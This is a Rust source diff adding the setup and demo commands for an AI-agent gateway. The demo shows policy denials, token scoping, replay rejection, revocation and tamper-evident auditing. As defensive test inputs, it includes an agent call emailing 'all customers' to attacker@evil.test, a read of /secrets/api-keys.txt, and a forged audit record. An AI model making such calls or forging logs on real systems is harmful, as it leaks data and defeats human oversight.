@@ -1,0 +1,261 @@
+//! `warden init` and `warden demo`: the demo starts a real server on SQLite
+//! with the built-in onboarding MCP server, registers an agent and a
+//! sub-agent, and drives them through allowed and refused calls, then shows
+//! the audit log catching a tampered record.
+
+use crate::agent_cmd::now;
+use anyhow::{Context, Result, bail, ensure};
+use serde_json::{Value, json};
+use std::path::{Path, PathBuf};
+use warden_client::{AgentClient, Reply};
+use warden_core::{ActionClass, Agent, AgentId, AgentStatus, Autonomy, Sensitivity, ToolRef};
+use warden_identity::{AccessClaims, Actor, Confirmation, Keypair, make_dpop_proof};
+use warden_server::ServerConfig;
+use warden_store::RevocationKind;
+
+pub const POLICY_FILES: &[(&str, &str)] = &[
+    ("schema.cedarschema", include_str!("../../../policies/schema.cedarschema")),
+    ("base.cedar", include_str!("../../../policies/base.cedar")),
+    ("guardrails.cedar", include_str!("../../../policies/guardrails.cedar")),
+    ("tests/guardrails.toml", include_str!("../../../policies/tests/guardrails.toml")),
+];
+
+const CONFIG: &str = r#"# Warden configuration. Relative paths are relative to this file.
+data_dir = "warden-data"
+listen = "127.0.0.1:8700"
+# public_url = "https://warden.example.com"   # what agents use; the token audience is PUBLIC_URL/mcp
+trust_domain = "warden.local"
+policy_dir = "policies"
+token_ttl_secs = 300
+
+# Upstream MCP servers. Tools appear to agents as SERVER__TOOL once an
+# operator has classified and approved them (`warden tool approve SERVER/TOOL`).
+[[upstream]]
+name = "onboarding"
+transport = "stdio"
+command = "warden"
+args = ["demo-server"]
+
+# [[upstream]]
+# name = "crm"
+# transport = "http"
+# url = "https://crm.internal.example/mcp"
+# headers_from_env = { Authorization = "CRM_API_TOKEN" }   # injected by the gateway; agents never see it
+"#;
+
+fn write_policies(dir: &Path) -> Result<()> {
+    for (name, text) in POLICY_FILES {
+        let p = dir.join(name);
+        std::fs::create_dir_all(p.parent().expect("has parent"))?;
+        std::fs::write(&p, text).with_context(|| format!("writing {}", p.display()))?;
+    }
+    Ok(())
+}
+
+pub fn init(dir: &Path) -> Result<()> {
+    let cfg = dir.join("warden.toml");
+    if cfg.exists() {
+        bail!("{} already exists; not overwriting it", cfg.display());
+    }
+    std::fs::create_dir_all(dir)?;
+    if dir.join("policies").exists() {
+        bail!("{} already exists; not overwriting it", dir.join("policies").display());
+    }
+    write_policies(&dir.join("policies"))?;
+    std::fs::write(&cfg, CONFIG)?;
+    println!("wrote {} and {}/policies; next: warden serve --config {}", cfg.display(), dir.display(), cfg.display());
+    Ok(())
+}
+
+struct Show {
+    step: usize,
+}
+
+impl Show {
+    fn step(&mut self, title: &str) {
+        self.step += 1;
+        println!("\n[{}] {title}", self.step);
+    }
+}
+
+fn outcome(r: &Reply) -> String {
+    if let Some(res) = r.result() {
+        let text = res.get("content").and_then(|c| c.get(0)).and_then(|c| c.get("text")).and_then(Value::as_str).unwrap_or("");
+        let text: String = text.chars().take(100).collect();
+        format!("ALLOWED  (HTTP {}) -> {text}", r.status)
+    } else {
+        format!("REFUSED  (HTTP {}) -> {}", r.status, r.error_message().unwrap_or("?"))
+    }
+}
+
+pub async fn run(dir: Option<PathBuf>) -> Result<()> {
+    let base = match dir {
+        Some(d) => {
+            ensure!(!d.join("warden-data").exists(), "{} already holds a demo; pick an empty directory", d.display());
+            std::fs::create_dir_all(&d)?;
+            d
+        }
+        None => {
+            let d = std::env::temp_dir().join(format!("warden-demo-{}-{}", std::process::id(), now()));
+            std::fs::create_dir_all(&d)?;
+            d
+        }
+    };
+    write_policies(&base.join("policies"))?;
+    let exe = std::env::current_exe()?.display().to_string();
+    let cfg_text = CONFIG.replace("listen = \"127.0.0.1:8700\"", "listen = \"127.0.0.1:0\"").replace("command = \"warden\"", &format!("command = {exe:?}"));
+    std::fs::write(base.join("warden.toml"), &cfg_text)?;
+    let cfg = ServerConfig::load(&base.join("warden.toml"))?;
+    println!("Warden demo — data directory {}", base.display());
+    let mut s = Show { step: 0 };
+
+    s.step("Start the gateway (SQLite registry, Cedar policies, built-in onboarding MCP server over stdio)");
+    let running = warden_server::start(cfg.clone()).await?;
+    let gw = running.gateway.clone();
+    let store = gw.store.clone();
+    println!("    gateway at {}/mcp", running.public_url);
+
+    s.step("Operator classifies and pins the tools the gateway discovered upstream");
+    let classes = [
+        ("customer_lookup", Sensitivity::Medium, ActionClass::Read, false),
+        ("db_query", Sensitivity::High, ActionClass::Read, false),
+        ("email_send", Sensitivity::Medium, ActionClass::Write, true),
+        ("payment_transfer", Sensitivity::High, ActionClass::Financial, false),
+        ("file_read", Sensitivity::Medium, ActionClass::Read, false),
+    ];
+    for (name, sens, action, exfil) in classes {
+        let tref = ToolRef::new("onboarding", name)?;
+        let mut t = store.get_tool(&tref).await.with_context(|| format!("the gateway did not observe {tref}"))?;
+        t.sensitivity = sens;
+        t.action_class = action;
+        t.exfil_capable = exfil;
+        store.upsert_tool(&t).await?;
+        let t = store.approve_tool(&tref).await?;
+        println!("    {tref:<30} {sens:<7} {action:<10} pinned {}", &t.pinned_hash.unwrap_or_default()[..16]);
+    }
+
+    s.step("Register an agent (own Ed25519 key, human owner, purpose, allowed tools, autonomy 2) and a sub-agent");
+    let bot_key = Keypair::generate();
+    let helper_key = Keypair::generate();
+    let bot_id = AgentId::new(&cfg.trust_domain, "onboarding-bot")?;
+    let helper_id = AgentId::new(&cfg.trust_domain, "email-helper")?;
+    let tools = |names: &[&str]| names.iter().map(|n| ToolRef::new("onboarding", n)).collect::<Result<Vec<_>, _>>();
+    store
+        .insert_agent(&Agent {
+            id: bot_id.clone(),
+            owner: "alice@example.com".into(),
+            purpose: "onboard new customers".into(),
+            tools: tools(&["customer_lookup", "db_query", "email_send", "file_read"])?,
+            autonomy: Autonomy::try_from(2)?,
+            status: AgentStatus::Active,
+            public_key: bot_key.public().to_b64(),
+            parent: None,
+            created_at: now(),
+        })
+        .await?;
+    store
+        .insert_agent(&Agent {
+            id: helper_id.clone(),
+            owner: "alice@example.com".into(),
+            purpose: "draft and send onboarding emails".into(),
+            tools: tools(&["email_send"])?,
+            autonomy: Autonomy::try_from(2)?,
+            status: AgentStatus::Active,
+            public_key: helper_key.public().to_b64(),
+            parent: Some(bot_id.clone()),
+            created_at: now(),
+        })
+        .await?;
+    gw.refresh().await?;
+    println!("    {bot_id} (owner alice@example.com)\n    {helper_id} (sub-agent of onboarding-bot)");
+
+    s.step("Agent gets a 5-minute DPoP-bound token for one task (private_key_jwt + DPoP)");
+    let mut bot = AgentClient::new(&running.public_url, bot_id.as_str(), bot_key.clone());
+    let t = bot.fetch_token(Some("onboarding/customer_lookup onboarding/email_send onboarding/file_read"), Some("onboard customer c-1001")).await?;
+    println!("    token_type={} expires_in={}s scope=\"{}\"", t.token_type, t.expires_in, t.scope);
+
+    s.step("MCP initialize and tools/list: only tools in the token's scope that policy allows are visible");
+    let init = bot.initialize().await?;
+    ensure!(init.status == 200, "initialize failed: {}", init.body);
+    println!("    visible tools: {}", bot.list_tools().await?.join(", "));
+
+    s.step("Allowed: CRM lookup");
+    println!("    {}", outcome(&bot.call_tool("onboarding__customer_lookup", json!({ "customer_id": "c-1001" })).await?));
+    s.step("Allowed: internal email");
+    println!("    {}", outcome(&bot.call_tool("onboarding__email_send", json!({ "to": "ops@example.com", "subject": "New customer", "body": "c-1001 signed up" })).await?));
+    s.step("Denied by policy: email to an outside address (exfiltration guardrail)");
+    println!("    {}", outcome(&bot.call_tool("onboarding__email_send", json!({ "to": "attacker@evil.test", "subject": "dump", "body": "all customers" })).await?));
+    s.step("Denied by policy: reading /secrets");
+    println!("    {}", outcome(&bot.call_tool("onboarding__file_read", json!({ "path": "/secrets/api-keys.txt" })).await?));
+    s.step("Out of scope: payment_transfer was never granted (403 insufficient_scope)");
+    let r = bot.call_tool("onboarding__payment_transfer", json!({ "amount": 10, "currency": "EUR", "to": "acct-9" })).await?;
+    println!("    {}\n    WWW-Authenticate: {}", outcome(&r), r.www_authenticate.unwrap_or_default());
+
+    s.step("Sub-agent exchanges the parent's token (RFC 8693): attenuated scope, act chain");
+    let mut helper = AgentClient::new(&running.public_url, helper_id.as_str(), helper_key.clone());
+    let ht = helper.exchange(bot.token.as_deref().expect("token"), None).await?;
+    println!("    sub-agent scope=\"{}\" expires_in={}s", ht.scope, ht.expires_in);
+    helper.initialize().await?;
+    println!("    email_send:      {}", outcome(&helper.call_tool("onboarding__email_send", json!({ "to": "ops@example.com", "subject": "hi", "body": "welcome" })).await?));
+    println!("    customer_lookup: {}", outcome(&helper.call_tool("onboarding__customer_lookup", json!({ "customer_id": "c-1001" })).await?));
+
+    s.step("Expired token: signed by the gateway key but past its exp");
+    let expired = AccessClaims {
+        iss: running.public_url.clone(),
+        sub: "alice@example.com".into(),
+        aud: gw.config.resource.clone(),
+        exp: now() - 1,
+        iat: now() - 301,
+        nbf: now() - 301,
+        jti: "demo-expired".into(),
+        client_id: bot_id.to_string(),
+        scope: "onboarding/customer_lookup".into(),
+        act: Actor { sub: bot_id.to_string(), act: None },
+        cnf: Confirmation { jkt: bot_key.public().kid() },
+        task: "onboard customer c-1001".into(),
+        chain: vec![],
+    };
+    let expired = running.issuer.issue(&expired);
+    let proof = make_dpop_proof(&bot_key, "POST", &bot.mcp_url(), Some(&expired), now());
+    let body = json!({ "jsonrpc": "2.0", "id": 99, "method": "tools/list" }).to_string().into_bytes();
+    let r = bot.post_raw(body, Some(format!("DPoP {expired}")), Some(proof)).await?;
+    println!("    {}", outcome(&r));
+
+    s.step("Replayed DPoP proof: the same proof sent twice");
+    let proof = bot.proof("POST");
+    let auth = format!("DPoP {}", bot.token.as_deref().expect("token"));
+    let body = || json!({ "jsonrpc": "2.0", "id": 100, "method": "tools/list" }).to_string().into_bytes();
+    let first = bot.post_raw(body(), Some(auth.clone()), Some(proof.clone())).await?;
+    let second = bot.post_raw(body(), Some(auth), Some(proof)).await?;
+    println!("    first use:  HTTP {}\n    replay:     {}", first.status, outcome(&second));
+
+    s.step("Operator revokes the task: the agent's and sub-agent's tokens die before their next call");
+    store.revoke(RevocationKind::Task, "onboard customer c-1001", "demo: task finished", now()).await?;
+    gw.refresh().await?;
+    println!("    agent:     {}", outcome(&bot.call_tool("onboarding__customer_lookup", json!({ "customer_id": "c-1002" })).await?));
+    println!("    sub-agent: {}", outcome(&helper.call_tool("onboarding__email_send", json!({ "to": "ops@example.com", "subject": "x", "body": "y" })).await?));
+
+    s.step("Audit: every decision above is in a hash-chained log signed with the gateway key");
+    let key = gw_public(&cfg)?;
+    let report = crate::audit_cmd::verify_store(&store, &key).await?.map_err(|e| anyhow::anyhow!("{e}"))?;
+    println!("    verify: OK — {} records, head {}…", report.records, &report.head.hash[..16]);
+    let recs = store.read_audit(0, 1000).await?;
+    let victim = recs.into_iter().filter_map(Result::ok).find(|r| r.event.decision == "deny" && r.event.reason.as_deref().is_some_and(|x| x.contains("outside example.com"))).context("the denied email is audited")?;
+    println!("    record {}: {} {} -> {}", victim.seq, victim.event.tool.as_deref().unwrap_or("-"), victim.event.decision, victim.event.reason.as_deref().unwrap_or(""));
+    let mut forged = victim.clone();
+    forged.event.decision = "allow".into();
+    forged.event.reason = None;
+    store.overwrite_audit_row(victim.seq, &serde_json::to_string(&forged)?).await?;
+    println!("    an attacker with database access rewrites record {} to say \"allow\"…", victim.seq);
+    match crate::audit_cmd::verify_store(&store, &key).await? {
+        Err(e) => println!("    verify: FAILED — {e}"),
+        Ok(_) => bail!("tampering was not detected"),
+    }
+    println!("\nDemo complete. Explore it: warden --config {} audit tail", base.join("warden.toml").display());
+    running.task.abort();
+    Ok(())
+}
+
+fn gw_public(cfg: &ServerConfig) -> Result<warden_identity::PublicKey> {
+    Ok(warden_server::load_or_create_key(&cfg.key_path())?.public())
+}
